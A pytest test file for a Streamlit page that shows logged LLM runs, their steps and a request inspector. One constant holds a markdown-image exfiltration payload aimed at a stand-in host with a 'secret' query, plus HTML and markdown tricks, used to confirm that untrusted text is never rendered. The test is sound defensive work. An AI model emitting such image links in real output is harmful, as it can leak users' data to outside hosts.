"""The Runs page with one run open: its steps, its inspector, and what can be done with it."""

from dataclasses import replace
from datetime import timedelta

import pytest
from runs_screen import OpenPage, asked, captions, codes, keep, texts
from streamlit.testing.v1 import AppTest

from switchboard.messages import Answer, Call, Choice, Message
from switchboard.runs import StepStatus
from switchboard.store import Store
from tests.store.records import NOON, a_fault, a_run, a_step

pytestmark = pytest.mark.app

TRICK = "![x](https://e.test/?d=secret) **bold** :red[r] $x$ <img src=x>"


def test_an_address_opens_a_run(open_page: OpenPage, store: Store):
    keep(store, "apple")
    page = open_page("pages/runs.py", run="apple")

    assert [heading.value for heading in page.subheader] == ["Question of apple"]
    assert texts(page) == ["Hello", "First …", "Looking it up. 天气"]
    assert 'get_weather({"location": "Paris)' in codes(page)


def test_the_rounds_that_were_sent_back_are_told(open_page: OpenPage, store: Store):
    store.begin_run(a_run())
    for position, repairs in enumerate((0, 1, 2)):
        step = replace(a_step(f"s{position}", position=position, minutes=position), repairs=repairs)
        store.begin_step(replace(step, status=StepStatus.FINISHED))
    page = open_page("pages/runs.py", run="run-1")

    ends = [said.value.split(" · ")[-1] for said in page.markdown if "Request" in said.value]
    assert [end if "sent back" in end else "" for end in ends] == [
        "",
        "after 1 round sent back",
        "after 2 rounds sent back",
    ]


def test_a_run_leads_back_to_its_conversation(open_page: OpenPage, store: Store):
    keep(store, "apple")
    store.save_conversation("talk-1", {}, revision=0)

    assert links(open_page("pages/runs.py", run="apple")) == [
        ("Open the conversation in the Playground", "conversation=talk-1")
    ]


def test_a_run_whose_conversation_is_not_kept_leads_nowhere(open_page: OpenPage, store: Store):
    keep(store, "apple")

    assert links(open_page("pages/runs.py", run="apple")) == []


def links(page: AppTest) -> list[tuple[str, str]]:
    return [(link.proto.label, link.proto.query_string) for link in page.main.get("page_link")]


def test_requests_are_numbered_as_they_were_sent(open_page: OpenPage, store: Store):
    store.begin_run(a_run())
    for step_id, position, minutes in (("b", 0, 2), ("a", 1, 1)):
        request = {"messages": [{"role": "user", "content": step_id}]}
        step = a_step(step_id, position=position, minutes=minutes, request=request)
        store.begin_step(replace(step, status=StepStatus.FINISHED))
    page = open_page("pages/runs.py", run="run-1")

    assert texts(page) == ["a", "b"]
    assert [said.value[:13] for said in page.markdown if "Request" in said.value] == [
        "**Request 1**",
        "**Request 2**",
    ]


def test_a_step_shows_what_is_new_in_it(open_page: OpenPage, store: Store):
    store.begin_run(a_run())
    call = Call("call-1", "get_weather", '{"city": "Paris"}')
    first = Answer(choices=(Choice(Message(role="assistant", calls=(call,))),))
    question = {"role": "user", "content": "Weather?"}
    said = {"role": "assistant", "content": "old answer", "tool_calls": []}
    result = {"role": "tool", "tool_call_id": "call-1", "content": "18 degrees"}
    store.begin_step(
        a_step("a", status=StepStatus.FINISHED, request={"messages": [question]}, answer=first)
    )
    store.begin_step(
        a_step(
            "b",
            position=1,
            minutes=1,
            status=StepStatus.FINISHED,
            request={"messages": [question, said, result]},
            answer=Answer(choices=(Choice(Message(role="assistant", content="Mild.")),)),
        )
    )
    page = open_page("pages/runs.py", run="run-1")

    assert texts(page) == ["Weather?", "Mild."]
    assert codes(page) == ['get_weather({"city": "Paris"})', "18 degrees"]


@pytest.mark.parametrize(
    ("status", "sentence"),
    [
        ("interrupted", "Interrupted: the program ended while the answer was arriving."),
        ("stopped", "Stopped by you. What had arrived until then is kept."),
        ("failed", "Failed: no answer came, or it broke off. What had arrived is kept."),
        ("running", "Running: the answer is still arriving."),
    ],
)
def test_a_status_is_explained_in_a_sentence(
    open_page: OpenPage, store: Store, status: str, sentence: str
):
    store.begin_run(a_run())
    store.begin_step(a_step(status=StepStatus(status)))

    assert sentence in captions(open_page("pages/runs.py", run="run-1"))


def test_a_fault_is_readable(open_page: OpenPage, store: Store):
    store.begin_run(a_run())
    store.begin_step(a_step(status=StepStatus.FAILED, fault=a_fault()))
    page = open_page("pages/runs.py", run="run-1")

    assert [error.value for error in page.error] == ["Refused\\.\n\nTry another\\."]


def test_the_inspector_opens_on_demand_and_shows_everything(open_page: OpenPage, store: Store):
    keep(store, "apple")
    store.append_received("step of apple", b'data: {"id": "chatcmpl-1"}\n\ndata: [DONE]\n\n')
    page = open_page("pages/runs.py", run="apple")
    page.toggle(key="run-inspect-step of apple").set_value(True).run()
    shown = "\n".join(codes(page))

    assert [tab.label for tab in page.tabs] == ["Request", "Response", "Headers", "Profile", "cURL"]
    assert '"content": "Hello"' in shown
    assert '"response_id": "chatcmpl-1"' in shown
    assert "data: [DONE]" in shown
    assert "authorization: Bearer ***" in shown
    assert "content-type: text/event-stream" in shown
    assert "curl http://127.0.0.1:8808/v1/chat/completions" in shown
    assert [info.value for info in page.info] == [r"The stream had no \[DONE\]\."]
    assert page.exception == []


def test_a_run_is_deleted_after_a_second_click(open_page: OpenPage, store: Store):
    keep(store, "apple")
    keep(store, "pear")
    page = open_page("pages/runs.py", run="apple")
    page.button(key="run-delete").click().run()

    assert asked(page) == ["Question of pear"]
    assert store.run("apple") is None
    assert "run" not in page.query_params


def test_all_runs_leads_back(open_page: OpenPage, store: Store):
    keep(store, "apple")
    page = open_page("pages/runs.py", run="apple")
    page.button(key="run-back").click().run()

    assert asked(page) == ["Question of apple"]


def test_nothing_a_model_or_person_wrote_is_read_as_markdown(open_page: OpenPage, store: Store):
    store.begin_run(replace(a_run(title=TRICK), started_at=NOON + timedelta(minutes=1)))
    message = Message(
        role="assistant", content=TRICK, reasoning=TRICK, calls=(Call("i", TRICK, TRICK),)
    )
    store.begin_step(
        a_step(
            model=TRICK,
            gateway=TRICK,
            status=StepStatus.FAILED,
            request={"messages": [{"role": TRICK, "content": TRICK}]},
            request_headers={TRICK: TRICK},
            response_headers={TRICK: TRICK},
            answer=Answer(choices=(Choice(message),), notes=(TRICK,)),
            fault=replace(a_fault(), message=TRICK, advice=TRICK, body=TRICK),
        )
    )
    store.append_received("step-1", TRICK.encode())
    page = open_page("pages/runs.py", run="run-1")
    page.toggle(key="run-inspect-step-1").set_value(True).run()
    read_as_markdown = [
        *(
            element.value
            for kind in ("markdown", "caption", "subheader", "error", "info", "title")
            for element in page.get(kind)
        ),
        *(metric.value for metric in page.metric),
        *(button.label for button in page.get("download_button")),
        *(toggle.label for toggle in page.toggle),
    ]

    assert page.exception == []
    assert [text for text in read_as_markdown if "![x](" in text or "**bold**" in text] == []
    assert [text for text in read_as_markdown if ":red[" in text or "$x$" in text] == []
